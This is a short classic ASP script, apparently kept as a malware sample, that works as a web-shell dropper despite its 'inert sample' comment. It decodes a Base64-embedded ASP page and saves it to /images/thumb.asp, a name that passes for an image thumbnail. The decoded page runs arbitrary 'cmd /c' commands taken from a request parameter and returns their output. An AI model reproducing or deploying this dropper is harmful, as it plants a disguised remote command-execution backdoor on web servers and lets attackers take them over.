<%
' inert sample: a classic ASP dropper decoding the page it plants from Base64 through an XML node of
' type bin.base64 and saving it with ADODB.Stream.
Const PAGE = "PCUKRGltIHNoIDogU2V0IHNoID0gU2VydmVyLkNyZWF0ZU9iamVjdCgiV1NjcmlwdC5TaGVsbCIpClJlc3BvbnNlLldyaXRlIHNoLkV4ZWMoImNtZCAvYyAiICYgUmVxdWVzdCgicSIpKS5TdGRPdXQuUmVhZEFsbCgpCiU+Cg=="
Dim doc, node, stm
Set doc = Server.CreateObject("MSXML2.DOMDocument")
Set node = doc.createElement("b")
node.dataType = "bin.base64"
node.text = PAGE
Set stm = Server.CreateObject("ADODB.Stream")
stm.Type = 1
stm.Open
stm.Write node.nodeTypedValue
stm.SaveToFile Server.MapPath("/images/thumb.asp"), 2
stm.Close
Response.Write "ok"
%>
